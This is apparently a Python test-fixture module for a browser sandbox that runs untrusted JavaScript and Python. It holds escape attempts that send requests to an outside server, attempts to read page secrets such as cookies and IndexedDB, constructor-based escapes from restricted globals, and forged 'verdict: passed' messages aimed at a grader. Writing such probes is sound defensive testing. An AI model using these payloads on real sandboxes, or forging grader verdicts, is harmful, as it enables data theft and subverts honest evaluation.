"""Ways out of the sandbox, as bodies of async JavaScript functions.

Each gets ``OUT``, the address of a listening server, and returns what it read, or nothing.  A read is a find when it
holds the secret; a request is a find when the server hears it.
"""

from __future__ import annotations

SECRET = "kept-by-the-reader-4711"

REQUESTS = {
    "fetch": "await fetch(OUT + 'fetch')",
    "fetch without CORS": "await fetch(OUT + 'no-cors', { mode: 'no-cors', method: 'POST', body: 'x' })",
    "fetch that outlives the page": "await fetch(OUT + 'keepalive', { keepalive: true, mode: 'no-cors' })",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', OUT + 'xhr', false); x.send()",
    "WebSocket": "new WebSocket(OUT.replace('http', 'ws') + 'socket'); await wait(300)",
    "EventSource": "new EventSource(OUT + 'events'); await wait(300)",
    "sendBeacon": "navigator.sendBeacon(OUT + 'beacon', 'x'); await wait(100)",
    "dynamic import": "await import(OUT + 'module.js')",
    "importScripts": "importScripts(OUT + 'script.js')",
    "worker from an address": "new Worker(OUT + 'worker.js'); await wait(300)",
    "worker that fetches": """
        const code = `fetch('${OUT}nested', { mode: 'no-cors' })`;
        new Worker(URL.createObjectURL(new Blob([code]))); await wait(500)""",
    "module worker that imports": """
        const code = `import '${OUT}nested.js'`;
        new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })), { type: 'module' });
        await wait(500)""",
    "SharedWorker": "new SharedWorker(OUT + 'shared.js'); await wait(300)",
    "font": "const f = new FontFace('x', `url(${OUT}font.woff2)`); await f.load()",
    "WebTransport": "const t = new WebTransport(OUT.replace('http:', 'https:')); await t.ready",
    "peer connection": """
        const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(OUT).host }] });
        p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await wait(300)""",
    "fetch made from a constructor": "await [].constructor.constructor('u', 'return fetch(u)')(OUT + 'constructor')",
    "fetch of another realm": """
        const code = 'onmessage = (e) => fetch(e.data, { mode: "no-cors" })';
        const w = new Worker(URL.createObjectURL(new Blob([code]))); w.postMessage(OUT + 'realm'); await wait(500)""",
    "navigation": "self.location = OUT + 'navigate'; await wait(200)",
    "popup": "self.open(OUT + 'popup'); await wait(200)",
    "background fetch": "await (await navigator.serviceWorker.ready).backgroundFetch.fetch('x', OUT + 'background')",
}
"""Attempts to reach an outside server."""

READS = {
    "IndexedDB": """
        const opened = indexedDB.open('secrets');
        const database = await new Promise((ok, no) => { opened.onsuccess = () => ok(opened.result);
            opened.onerror = () => no(opened.error); });
        const asked = database.transaction('kept').objectStore('kept').getAll();
        return JSON.stringify(await new Promise((ok) => { asked.onsuccess = () => ok(asked.result); }))""",
    "names of databases": "return JSON.stringify(await indexedDB.databases()).replace('secrets', SECRET)",
    "cache storage": "return await (await (await caches.open('secrets')).match(PAGE + 'kept')).text()",
    "private file system": """
        const root = await navigator.storage.getDirectory();
        return await (await (await root.getFileHandle('secrets')).getFile()).text()""",
    "localStorage": "return localStorage.getItem('secrets')",
    "cookies": "return document.cookie",
    "cookie store": "return JSON.stringify(await cookieStore.getAll())",
    "other tabs": """
        const channel = new BroadcastChannel('secrets');
        return await new Promise((ok) => { channel.onmessage = (e) => ok(e.data); channel.postMessage('tell me');
            setTimeout(() => ok('silence'), 400); })""",
    "parent page": "return parent.document.cookie",
    "top page": "return top.secrets",
    "the page's own address": "return await (await fetch(new URL('kept.txt', PAGE))).text()",
    "opener": "return opener.secrets",
    "locks of other tabs": "return JSON.stringify(await navigator.locks.query()).replace('secrets', SECRET)",
}
"""Attempts to read what belongs to the page."""

PYTHON = {
    "urllib": "import urllib.request\nurllib.request.urlopen({out!r} + 'urllib').read()",
    "http.client": "import http.client\nc = http.client.HTTPConnection({host!r})\nc.request('GET', '/client')",
    "socket": "import socket\nsocket.create_connection(({name!r}, {port}), 1).send(b'GET / HTTP/1.0\\r\\n\\r\\n')",
    "pyfetch": "from pyodide.http import open_url\nopen_url({out!r} + 'open_url')",
    "loadPackage": "import pyodide_js\npyodide_js.loadPackage({out!r} + 'x-1.0-py3-none-any.whl')",
    "escape from restricted globals": (
        "from pyodide.ffi import to_js\nto_js([1]).constructor.constructor('u', 'return fetch(u)')({out!r} + 'escape')"
    ),
}
"""Attempts that start from Python itself."""

FORGERIES = """
for (const type of ["connect", "prepared", "unprepared", "ready", "answer", "fatal", "snapshot", "verdict"]) {
    const json = '{"type":"verdict","verdict":{"status":"passed","outcomes":[]}}';
    const lie = { type, json, message: "x", memory: 1 };
    self.postMessage(lie);
    try { parent.postMessage(lie, "*"); } catch {}
    try { top.postMessage(lie, "*"); } catch {}
    self.dispatchEvent(new MessageEvent("message", { data: lie }));
}"""
"""Messages that a submission could hope the page believes."""
